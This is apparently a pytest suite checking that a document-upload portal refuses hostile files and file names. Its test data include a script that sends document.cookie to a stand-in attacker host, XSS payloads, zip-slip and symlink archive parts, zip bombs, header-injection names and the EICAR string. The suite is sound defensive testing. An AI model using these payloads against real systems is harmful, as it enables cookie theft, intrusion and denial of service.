"""Uploads under attack (issue 8): a file over the limit by one byte, an empty
one, a web page or a script named .pdf, polyglots, zip bombs and zip-slip
parts in XLSX and DOCX, hostile file names, the EICAR test file (built-in and
through a real clamd-speaking socket), and the per-account quota, raced.

Every refusal: a message beside the file field (and the error summary's link to
it), a 4xx (503 only when the scanner cannot answer), no document row, no file
left in DOCUMENT_DIR, and a "document.refused" audit event. On both stores and
both databases (the `db_backend` parametrisation of `app_with`)."""

from __future__ import annotations

import functools
import io
import re
import socket
import socketserver
import struct
import threading
import zipfile

import pytest
from sqlalchemy import func, select

from domain import documents, scanning
from models import AuditEvent, Document, DocumentContent, ServiceRequest
from tests.accounts_factory import body, sessionmaker_of, signed_in

# With the document tests' fixtures (pytest finds them by name): `store` (both stores),
# `folder` and `make_app(store, **config)`.
from tests.test_documents import (  # noqa: F401
    OWNER,
    PNG,
    folder,
    make_app,
    make_docx,
    make_image,
    make_pdf,
    make_xlsx,
    shop_in,
    store,
)

EICAR = scanning.EICAR
HTMX = {"HX-Request": "true"}


# --- Files, built here ---------------------------------------------------------------------


def _zip_bytes(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _with_zeros(build, member: str, megabytes: int) -> bytes:
    """An Office file with one more part: `megabytes` MB of zeros, written through
    zipfile's streaming writer (a real bomb, about 1000:1, built in memory)."""
    out = io.BytesIO(build())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(member, "w", force_zip64=False) as part,
    ):
        chunk = b"\0" * (1024 * 1024)
        for _ in range(megabytes):
            part.write(chunk)
    return out.getvalue()


@functools.cache
def xlsx_bomb() -> bytes:
    return _with_zeros(make_xlsx, "xl/worksheets/sheet2.xml", 200)


@functools.cache
def docx_bomb() -> bytes:
    return _with_zeros(make_docx, "word/media/image1.png", 200)


def _office_with(build, name: str, data: bytes | str = b"<x/>") -> bytes:
    out = io.BytesIO(build())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _symlink_xlsx() -> bytes:
    out = io.BytesIO(make_xlsx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("xl/media/link.png")
        link.external_attr = 0o120777 << 16  # a symbolic link, as Info-ZIP stores one
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _nul_named_docx() -> bytes:
    raw = _office_with(make_docx, "word/NULXHERE.xml")
    return raw.replace(b"word/NULXHERE.xml", b"word/\0ULXHERE.xml")


def _duplicate_parts_xlsx() -> bytes:
    import warnings

    out = io.BytesIO(make_xlsx())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: that is the attack
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def _understated_xlsx() -> bytes:
    content = bytearray(_with_zeros(make_xlsx, "xl/media/zeros.bin", 5))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        local = archive.getinfo("xl/media/zeros.bin").header_offset
    central = bytes(content).rfind(b"xl/media/zeros.bin") - 46  # the name follows a 46-byte central header
    assert content[central : central + 4] == b"PK\x01\x02" and content[local : local + 4] == b"PK\x03\x04"
    content[local + 22 : local + 26] = struct.pack("<I", 100)
    content[central + 24 : central + 28] = struct.pack("<I", 100)
    return bytes(content)


def _jpeg() -> bytes:
    return make_image("JPEG")


def _jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = _jpeg()
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]  # a COM segment straight after SOI


def _pdf_with_header_line(line: bytes) -> bytes:
    pdf = make_pdf()
    first_line_end = pdf.index(b"\n") + 1
    return pdf[:first_line_end] + line + b"\n" + pdf[first_line_end:]


SMALL_ZIP = _zip_bytes({"run.js": "WScript.Echo('hi')"})  # well under 1 KB: the PDF's %%EOF stays in its last 1 KB
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
TOO_MUCH = "expands to too much data to check"
POLYGLOT = "has another file or a web page hidden in it"
UNSAFE = "its parts have names no Excel or Word file has"
NESTED = "has another compressed file inside it"
MALWARE = "contains a virus or other harmful content (Eicar-Test-Signature)"

# (name, content, what the message says, the audit reason)
ATTACKS = [
    ("empty.pdf", lambda: b"", "“empty.pdf” is empty", "empty"),
    ("invoice.pdf", lambda: HTML, "“invoice.pdf” is named as a PDF but it is a web page (HTML)", "mismatch"),
    (
        "script.pdf",
        lambda: b"<script>fetch('/profile/').then(r => r.text())</script>",
        "“script.pdf” is named as a PDF but it is a web page (HTML)",
        "mismatch",
    ),
    (
        "payload.pdf",
        lambda: b"var s = document.cookie;\nnew Image().src = '//evil.example/?' + s;\n",
        "“payload.pdf” is named as a PDF but it is text",
        "mismatch",
    ),
    ("html-first.pdf", lambda: HTML + b"\n" + make_pdf(), POLYGLOT, "polyglot"),
    (
        "html-inside.pdf",
        lambda: _pdf_with_header_line(b"%<html><script>alert(1)</script></html>"),
        POLYGLOT,
        "polyglot",
    ),
    ("zip-appended.pdf", lambda: make_pdf() + SMALL_ZIP, POLYGLOT, "polyglot"),
    ("zip-appended.jpg", lambda: _jpeg() + SMALL_ZIP, POLYGLOT, "polyglot"),
    ("zip-appended.png", lambda: PNG + SMALL_ZIP, POLYGLOT, "polyglot"),
    ("script-comment.jpg", lambda: _jpeg_with_comment(b"<script>alert(1)</script>"), POLYGLOT, "polyglot"),
    ("pdf-inside.jpg", lambda: _jpeg_with_comment(b"%PDF-1.7 1 0 obj"), POLYGLOT, "polyglot"),
    ("bomb.xlsx", xlsx_bomb, f"“bomb.xlsx” {TOO_MUCH}", "bomb"),
    ("bomb.docx", docx_bomb, f"“bomb.docx” {TOO_MUCH}", "bomb"),
    ("slip.xlsx", lambda: _office_with(make_xlsx, "../../../../tmp/evil.sh", "#!/bin/sh"), UNSAFE, "unsafe_parts"),
    ("absolute.docx", lambda: _office_with(make_docx, "/etc/cron.d/evil"), UNSAFE, "unsafe_parts"),
    ("backslash.xlsx", lambda: _office_with(make_xlsx, "..\\..\\evil.bat"), UNSAFE, "unsafe_parts"),
    ("nul-part.docx", _nul_named_docx, UNSAFE, "unsafe_parts"),
    ("link.xlsx", _symlink_xlsx, UNSAFE, "unsafe_parts"),
    ("twice.xlsx", _duplicate_parts_xlsx, UNSAFE, "unsafe_parts"),
    ("nested.docx", lambda: _office_with(make_docx, "word/embeddings/inner.zip", SMALL_ZIP), NESTED, "nested"),
    ("hidden-zip.xlsx", lambda: _office_with(make_xlsx, "xl/media/image1.png", SMALL_ZIP), NESTED, "nested"),
    ("eicar.csv", lambda: EICAR + b"\r\n", f"“eicar.csv” {MALWARE}", "malware"),
    ("eicar-in.pdf", lambda: _pdf_with_header_line(b"%" + EICAR), f"“eicar-in.pdf” {MALWARE}", "malware"),
    (
        "eicar-in.xlsx",
        lambda: _office_with(make_xlsx, "xl/media/readme.txt", EICAR),
        f"“eicar-in.xlsx” {MALWARE}",
        "malware",
    ),
]


# --- The portal ----------------------------------------------------------------------------


def _token(client, number) -> tuple[str, str]:
    page = body(client.get(f"/documents/{number}/upload"))
    return (
        re.search(r'name="csrf_token" value="([^"]+)"', page).group(1),
        re.search(r'name="token" value="([^"]+)"', page).group(1),
    )


def post(client, number, files, headers=None):
    """The upload form sent as a browser sends it (multipart, CSRF token, one-time token)."""
    csrf, token = _token(client, number)
    return client.post(
        f"/documents/{number}/upload",
        content_type="multipart/form-data",
        headers=headers or {},
        data={
            "csrf_token": csrf,
            "token": token,
            "description": "",
            "files": [(io.BytesIO(content), name) for name, content in files],
        },
    )


def kept(app) -> tuple[int, int, int]:
    """(documents, database contents, "documents" requests)."""
    with sessionmaker_of(app)() as db:
        return (
            db.scalar(select(func.count(Document.id))),
            db.scalar(select(func.count()).select_from(DocumentContent)),
            db.scalar(select(func.count(ServiceRequest.id)).where(ServiceRequest.kind == "documents")),
        )


def on_disk(folder) -> list[str]:
    """Everything under DOCUMENT_DIR, temporary files and folders included."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() else []


def refusals(app) -> list[dict]:
    import json

    with sessionmaker_of(app)() as db:
        return [
            json.loads(detail)
            for detail in db.scalars(
                select(AuditEvent.detail).where(AuditEvent.event == "document.refused").order_by(AuditEvent.id)
            )
        ]


def assert_refused_beside_the_field(response, message: str, status: int = 400, htmx: bool = False):
    page = body(response)
    assert response.status_code == status, (message, response.status_code, page[:300])
    error = re.search(r'<div class="field-error" id="files-error">(.*?)</div>', page, re.S)
    assert error and message in error.group(1), (message, page[page.find("error-summary") :][:800])
    assert 'href="#files"' in page  # the error summary links to the field
    if htmx:
        assert page.lstrip().startswith('<div id="upload-form"') and "<html" not in page
    else:
        assert "<title>Error: Upload supporting documents" in page


# --- The size limit ------------------------------------------------------------------------


def _pdf_of_size(size: int) -> bytes:
    """A sound PDF of exactly `size` bytes: a comment padded out, then the trailer again."""
    start, trailer = make_pdf() + b"%", b"\nstartxref\n0\n%%EOF\n"
    return start + b"x" * (size - len(start) - len(trailer)) + trailer


def test_a_file_of_exactly_the_limit_is_kept_and_one_byte_more_is_refused(make_app, clock, store, folder):
    """ASVS 5.0 5.2.1: only files of a size the portal can process; the limit is exact."""
    app = make_app(store, UPLOAD_MAX_BYTES=4096)
    shop = shop_in(app, clock)
    client = signed_in(app, OWNER)
    over = post(client, shop["number"], [("over.pdf", _pdf_of_size(4097))])
    assert_refused_beside_the_field(over, "“over.pdf” must be smaller than 4 KB")
    assert kept(app) == (0, 0, 0) and on_disk(folder) == []
    assert refusals(app)[-1]["reasons"] == ["too_large"]
    exact = post(client, shop["number"], [("exact.pdf", _pdf_of_size(4096))])
    assert exact.status_code == 303
    with sessionmaker_of(app)() as db:
        assert db.scalar(select(Document.size_bytes)) == 4096
    assert kept(app)[0] == 1 and len(on_disk(folder)) == (1 if store == "filesystem" else 0)


# --- The attack set ------------------------------------------------------------------------


# Refusals come before either store is touched: each store is tried with one way of sending
# (a plain form, htmx), which keeps the suite's time down and still covers all four.
@pytest.mark.parametrize(
    "store, htmx", [("filesystem", False), ("database", True)], ids=["filesystem-plain", "database-htmx"]
)
def test_every_attack_file_is_refused_beside_the_field_and_nothing_is_kept(make_app, clock, store, folder, htmx):
    """ASVS 5.0 5.2.2 (content, not name: HTML or script named .pdf, polyglots), 5.2.3 (XLSX and DOCX
    bombs judged on declared sizes before expanding, nested archives), 5.2.5 (symbolic links in a zip),
    5.3.3 (zip-slip part names: ../, absolute, backslash, NUL, duplicates), 5.4.3 (the EICAR test file
    refused before anything is kept), 5.1.1 (each refusal says what is accepted)."""
    app = make_app(store)
    shop = shop_in(app, clock)
    client = signed_in(app, OWNER)
    for number, (name, build, message, reason) in enumerate(ATTACKS, start=1):
        response = post(client, shop["number"], [(name, build())], headers=HTMX if htmx else None)
        assert_refused_beside_the_field(response, message, htmx=htmx)
        assert kept(app) == (0, 0, 0), name
        assert on_disk(folder) == [], name
        audited = refusals(app)
        assert len(audited) == number and audited[-1]["reasons"] == [reason], (name, audited[-1])
    malware = [r["malware"][0] for r in refusals(app) if "malware" in r]
    assert [m["signature"] for m in malware] == ["Eicar-Test-Signature"] * 3
    assert all(re.fullmatch(r"[0-9a-f]{64}", m["sha256"]) for m in malware)


def test_one_attack_among_good_files_keeps_none_of_them(make_app, clock, folder):
    """ASVS 5.0 5.2.2, 5.4.3: an upload is all or nothing; the good files go with the bad."""
    app = make_app("filesystem")
    shop = shop_in(app, clock)
    response = post(
        signed_in(app, OWNER), shop["number"], [("good.pdf", make_pdf()), ("eicar.csv", EICAR), ("fine.png", PNG)]
    )
    assert_refused_beside_the_field(response, f"“eicar.csv” {MALWARE}")
    assert "None of your files were uploaded." in body(response)
    assert kept(app) == (0, 0, 0) and on_disk(folder) == []


def test_the_checks_themselves_judge_the_bytes_not_the_name():
    """ASVS 5.0 5.2.2, 5.2.3: the rules behind the attack set, without the web: a sound file passes,
    its hostile twin does not, whatever it is called; a bomb is judged before it is expanded."""
    for build, kind in (
        (make_pdf, "pdf"),
        (_jpeg, "jpeg"),
        (lambda: PNG, "png"),
        (make_xlsx, "xlsx"),
        (make_docx, "docx"),
    ):
        assert documents.inspect(build()) == documents.Found(kind)
    # Leading white space before %PDF- is allowed (readers look in the first 1024 bytes); anything else is not.
    assert documents.inspect(b"\r\n  " + make_pdf()) == documents.Found("pdf")
    assert documents.inspect(b"GIF89a;" + make_pdf()).problem == "polyglot"
    assert documents.inspect(b"x" * 1100 + make_pdf()).family != "pdf"  # the header is past the first 1024 bytes
    assert documents.appended_zip(make_pdf() + SMALL_ZIP) and not documents.appended_zip(make_pdf())
    assert not documents.appended_zip(make_pdf() + b"PK\x05\x06" + b"\0" * 18)  # the signature alone is not a zip
    # Declared sizes that lie (a part says 100 bytes and holds 5 MB): reading stops at what was declared,
    # and the CRC check refuses it.
    assert documents.inspect(_understated_xlsx()).problem == "damaged"
    # A bomb is refused from the declared sizes: reading it does not expand 200 MB.
    import time

    started = time.perf_counter()
    assert documents.inspect(xlsx_bomb()).problem == "bomb"
    assert time.perf_counter() - started < 1.0
    assert len(xlsx_bomb()) < 400 * 1024 and len(docx_bomb()) < 400 * 1024  # small on the wire


# --- Hostile file names --------------------------------------------------------------------

HOSTILE_NAMES = [
    ("../../../../etc/cron.d/evil.pdf", "evil.pdf"),
    ("/etc/passwd.pdf", "passwd.pdf"),
    # Werkzeug reads a backslash in the quoted filename as an escape (RFC 7230 quoted-pair), so the
    # folders never arrive as folders; what is left is only ever shown.
    ("..\\..\\Windows\\System32\\evil.pdf", "WindowsSystem32evil.pdf"),
    ("C:\\boot.ini.pdf", "C:boot.ini.pdf"),
    ("report\x00.exe.pdf", "report.exe.pdf"),
    # A browser sends a double quote in a file name as %22 (HTML's multipart encoding); Werkzeug decodes it.
    ("bell\x07\x1b[31m\x7fred%22; filename=evil.exe; x=.pdf", 'bell[31mred"; filename=evil.exe; x=.pdf'),
    ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
    ("CON.pdf", "CON.pdf"),
    ("<img src=x onerror=alert(1)>%22.pdf", '<img src=x onerror=alert(1)>".pdf'),
    ("a" * 1000 + ".pdf", "a" * 196 + ".pdf"),
    ("../..", "document.pdf"),
]


def test_hostile_names_never_reach_the_disk_and_are_shown_and_sent_safely(make_app, clock, store, folder, tmp_path):
    """ASVS 5.0 5.3.2 (the stored name is generated, never the uploaded one), 5.4.1 (the download names
    the file itself), 5.4.2 (Content-Disposition per RFC 6266: an ASCII filename and an RFC 8187
    filename*; no header injection), 5.3.1 (nothing is stored where it could be served or run)."""
    app = make_app(store)
    shop = shop_in(app, clock)
    client = signed_in(app, OWNER)
    for uploaded, shown in HOSTILE_NAMES:
        response = post(client, shop["number"], [(uploaded, make_pdf())])
        assert response.status_code == 303, (uploaded, body(response)[:500])
        with sessionmaker_of(app)() as db:
            document = db.scalar(select(Document).order_by(Document.id.desc()).limit(1))
        assert document.uploaded_name == shown, uploaded
        assert re.fullmatch(r"[0-9a-f]{32}", document.stored_name)
        download = client.get(f"/documents/{shop['number']}/{document.id}/download")
        assert download.status_code == 200
        disposition = download.headers["Content-Disposition"]
        assert re.fullmatch(
            r"attachment; filename=\"[A-Za-z0-9 ._()+,=@&#!~'-]+\"; "
            r"filename\*=UTF-8''[A-Za-z0-9%._~!#$&+^`|-]+",
            disposition,
        ), disposition
        assert "\r" not in disposition and "\n" not in disposition and "Set-Cookie" not in download.headers
        if shown.split(".")[0] == "CON":
            assert 'filename="_CON.pdf"' in disposition  # Windows keeps CON for a device
    # A raw line break in the part's name breaks the multipart framing itself (a browser sends %0D%0A):
    # the request is refused and nothing is kept.
    before = kept(app)
    broken = post(client, shop["number"], [("x\r\nSet-Cookie: a=1.pdf", make_pdf())])
    assert broken.status_code == 400 and "Set-Cookie" not in broken.headers and kept(app) == before
    listing = body(client.get(f"/documents/{shop['number']}/"))
    assert "<img src=x onerror=alert(1)>" not in listing and "&lt;img src=x onerror=alert(1)&gt;" in listing
    assert "\u202e" not in listing and "\x07" not in listing
    # Only generated names in DOCUMENT_DIR; nothing written anywhere an uploaded path points at.
    assert all(re.fullmatch(r"[0-9a-f]{32}", name) for name in on_disk(folder))
    assert len(on_disk(folder)) == (len(HOSTILE_NAMES) if store == "filesystem" else 0)
    assert not (tmp_path / "etc").exists() and not (folder.parent / "evil.pdf").exists()


# --- clamd, over a real socket -------------------------------------------------------------


class FakeClamd(socketserver.ThreadingTCPServer):
    """A loopback server speaking clamd's INSTREAM protocol: it reads the chunks, keeps what it was
    sent, and answers FOUND for the EICAR string or for MARKER (a signature only this "clamd" knows,
    so a refusal for it can only have come through the socket), OK otherwise; or ERROR, or hangs up."""

    allow_reuse_address = True
    daemon_threads = True
    MARKER = b"CLAMD-ONLY-TEST-SIGNATURE"

    def __init__(self, mode: str = "scan"):
        self.mode, self.received = mode, []
        super().__init__(("127.0.0.1", 0), _ClamdHandler)
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class _ClamdHandler(socketserver.StreamRequestHandler):
    def handle(self):
        server = self.server
        command = b""
        while not command.endswith(b"\0"):
            byte = self.rfile.read(1)
            if not byte:
                return
            command += byte
        if command != b"zINSTREAM\0":
            self.wfile.write(b"UNKNOWN COMMAND\0")
            return
        data = b""
        while True:
            (length,) = struct.unpack(">I", self.rfile.read(4))
            if length == 0:
                break
            data += self.rfile.read(length)
        server.received.append(data)
        if server.mode == "hang-up":
            return
        if server.mode == "error":
            self.wfile.write(b"INSTREAM size limit exceeded. ERROR\0")
        elif EICAR in data:
            self.wfile.write(b"stream: Eicar-Test-Signature FOUND\0")
        elif FakeClamd.MARKER in data:
            self.wfile.write(b"stream: Clamd.Only.Test FOUND\0")
        else:
            self.wfile.write(b"stream: OK\0")


@pytest.fixture
def clamd():
    servers = []

    def start(mode="scan"):
        server = FakeClamd(mode)
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def test_the_clamd_client_speaks_instream_over_a_real_socket(clamd):
    """ASVS 5.0 5.4.3: the scanner hook streams the whole file to clamd in length-prefixed chunks and
    reads its answer: OK, FOUND with the signature's name, or anything else as "could not check"."""
    server = clamd()
    big = make_pdf() + b"%" + b"y" * (3 * scanning.CHUNK + 17)  # several chunks, the last one short
    assert scanning.clamd_scan(big, server.address) == scanning.CLEAN
    assert server.received[-1] == big
    assert scanning.clamd_scan(b"%PDF-1.4 " + EICAR, server.address) == scanning.Verdict(
        "infected", "Eicar-Test-Signature"
    )
    assert scanning.clamd_scan(b"", server.address) == scanning.CLEAN and server.received[-1] == b""
    assert scanning.clamd_scan(b"x", clamd("error").address).outcome == "unavailable"
    assert scanning.clamd_scan(b"x", clamd("hang-up").address).outcome == "unavailable"
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # nothing listens there now
    assert scanning.clamd_scan(b"x", f"127.0.0.1:{port}", timeout=2).outcome == "unavailable"
    assert scanning.parse_address("unix:/run/clamav/clamd.ctl") == (socket.AF_UNIX, "/run/clamav/clamd.ctl")
    assert scanning.parse_address("[::1]:3310") == (socket.AF_INET6, ("::1", 3310))


def test_with_clamd_set_each_file_goes_through_it_and_a_finding_is_refused(make_app, clock, store, folder, clamd):
    """ASVS 5.0 5.4.3: with CLAMD_ADDRESS set, every file is scanned by clamd before anything is kept;
    a clean file is kept, a finding (EICAR, or a signature the built-in recogniser does not know) is
    refused and audited with its signature."""
    server = clamd()
    app = make_app(store, CLAMD_ADDRESS=server.address)
    shop = shop_in(app, clock)
    client = signed_in(app, OWNER)
    clean = make_pdf("Clean receipt")
    assert post(client, shop["number"], [("clean.pdf", clean)]).status_code == 303
    assert server.received == [clean]
    marked = _pdf_with_header_line(b"%" + FakeClamd.MARKER)
    for htmx in (False, True):
        response = post(client, shop["number"], [("marked.pdf", marked)], headers=HTMX if htmx else None)
        assert_refused_beside_the_field(
            response, "“marked.pdf” contains a virus or other harmful content (Clamd.Only.Test)", htmx=htmx
        )
    assert server.received[-1] == marked
    assert kept(app)[0] == 1 and len(on_disk(folder)) == (1 if store == "filesystem" else 0)
    assert refusals(app)[-1]["malware"][0]["signature"] == "Clamd.Only.Test"
    # EICAR through clamd: the built-in recogniser answers first, and clamd is not asked.
    sent = len(server.received)
    assert_refused_beside_the_field(post(client, shop["number"], [("e.csv", EICAR)]), f"“e.csv” {MALWARE}")
    assert len(server.received) == sent and kept(app)[0] == 1


@pytest.mark.parametrize("mode", ["down", "error"])
def test_when_clamd_cannot_answer_nothing_is_kept_and_the_person_is_told_to_try_later(
    make_app, clock, folder, clamd, mode
):
    """ASVS 5.0 5.4.3 (fail closed: a scanner that is down never lets a file through unscanned).
    503 with Retry-After: the file is not at fault, the service is; the form comes back to retry."""
    if mode == "down":
        probe = socket.socket()
        probe.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{probe.getsockname()[1]}"
        probe.close()
    else:
        address = clamd("error").address
    app = make_app("filesystem", CLAMD_ADDRESS=address, CLAMD_TIMEOUT_SECONDS=2)
    shop = shop_in(app, clock)
    client = signed_in(app, OWNER)
    for htmx in (False, True):
        response = post(client, shop["number"], [("fine.pdf", make_pdf())], headers=HTMX if htmx else None)
        assert_refused_beside_the_field(response, "We cannot check files for viruses just now", status=503, htmx=htmx)
        assert response.headers["Retry-After"] == "120"
    assert kept(app) == (0, 0, 0) and on_disk(folder) == []
    assert refusals(app)[-1]["reasons"] == ["scanner_unavailable"]


# --- The per-account quota -----------------------------------------------------------------


def test_the_quota_of_bytes_and_of_files_refuses_what_does_not_fit(make_app, clock, store, folder):
    """ASVS 5.0 5.2.4: a quota of bytes and of files per account, checked with the insert; over it,
    422 and the message beside the field, and nothing kept."""
    pdf = make_pdf()
    app = make_app(store, DOCUMENT_QUOTA_BYTES=2 * len(pdf) + 10, DOCUMENT_QUOTA_FILES=3)
    shop = shop_in(app, clock)
    client = signed_in(app, OWNER)
    assert post(client, shop["number"], [("one.pdf", pdf)]).status_code == 303
    two_more = post(client, shop["number"], [("two.pdf", pdf), ("three.pdf", pdf)])
    assert_refused_beside_the_field(two_more, "This account can keep up to", status=422)
    assert "so these 2 files" in body(two_more) and "cannot be added" in body(two_more)
    assert kept(app) == (1, 1 if store == "database" else 0, 1)
    assert len(on_disk(folder)) == (1 if store == "filesystem" else 0)
    assert refusals(app)[-1]["reasons"] == ["quota"]
    assert post(client, shop["number"], [("two.pdf", pdf)]).status_code == 303  # exactly to the quota
    # By count: three files allowed in all, small ones.
    counted = make_app(store, DOCUMENT_QUOTA_FILES=3)
    client = signed_in(counted, OWNER)
    assert post(client, shop["number"], [("small.png", PNG)]).status_code == 303
    fourth = post(client, shop["number"], [("fourth.png", PNG)], headers=HTMX)
    assert_refused_beside_the_field(
        fourth, "This account can keep up to 3 documents and already has 3", status=422, htmx=True
    )
    assert kept(counted)[0] == 3
    assert len(on_disk(folder)) == (3 if store == "filesystem" else 0)


def test_parallel_uploads_cannot_both_slip_under_the_quota(make_app, clock, store, folder):
    """ASVS 5.0 5.2.4 (no check-then-write race): four workers upload at the same instant when there is
    room for one file; exactly one is kept, the others get 422. Then a held account row makes a second
    upload wait and count the first's file (the lock, shown deterministically)."""
    pdf = make_pdf()
    settings = {"DOCUMENT_QUOTA_BYTES": len(pdf) + 10}
    first = make_app(store, **settings)
    shop = shop_in(first, clock)
    workers = [first] + [make_app(store, **settings) for _ in range(3)]
    clients = [signed_in(worker, OWNER) for worker in workers]
    forms = [_token(client, shop["number"]) for client in clients]
    start, answers = threading.Barrier(len(workers)), [None] * len(workers)

    def send(i):
        csrf, token = forms[i]
        start.wait()
        answers[i] = (
            clients[i]
            .post(
                f"/documents/{shop['number']}/upload",
                content_type="multipart/form-data",
                data={"csrf_token": csrf, "token": token, "files": [(io.BytesIO(pdf), f"race-{i}.pdf")]},
            )
            .status_code
        )

    threads = [threading.Thread(target=send, args=(i,)) for i in range(len(workers))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(answers) == [303, 422, 422, 422], answers
    assert kept(first)[0] == 1 and len(on_disk(folder)) == (1 if store == "filesystem" else 0)

    # The lock itself: a transaction holding the account (as an upload does) makes the next upload wait,
    # and once it commits its file, the waiting one counts it and is refused.
    roomy = {"DOCUMENT_QUOTA_BYTES": 3 * len(pdf) + 10}
    holder_app, waiter_app = make_app(store, **roomy), make_app(store, **roomy)
    waiter = signed_in(waiter_app, OWNER)
    csrf, token = _token(waiter, shop["number"])
    checked = documents.check("held.pdf", pdf, 10 * 2**20)
    answer = {}
    with sessionmaker_of(holder_app)() as db:
        documents.enforce_quota(db, shop["account_id"], [checked], documents.Quota(max_bytes=3 * len(pdf) + 10))
        thread = threading.Thread(
            target=lambda: answer.setdefault(
                "status",
                waiter.post(
                    f"/documents/{shop['number']}/upload",
                    content_type="multipart/form-data",
                    data={
                        "csrf_token": csrf,
                        "token": token,
                        "files": [(io.BytesIO(pdf), "waiting.pdf"), (io.BytesIO(make_pdf("Second")), "second.pdf")],
                    },
                ).status_code,
            )
        )
        thread.start()
        thread.join(timeout=1.0)  # a bounded wait on a real thread: it must still be waiting
        assert thread.is_alive() and "status" not in answer  # waiting for the held account
        db.add(
            Document(
                account_id=shop["account_id"],
                stored_name=documents.new_stored_name(),
                uploaded_name="held.pdf",
                content_type="application/pdf",
                size_bytes=len(pdf),
                sha256=checked.sha256,
                storage="database",
                description="",
                uploaded_at=clock(),
                uploaded_by_user_id=shop["owner"],
            )
        )
        db.commit()
    thread.join(timeout=30)
    assert answer["status"] == 422  # 1 + 1 held + 2 more would be 4 PDFs: room for 3
    assert kept(first)[0] == 2
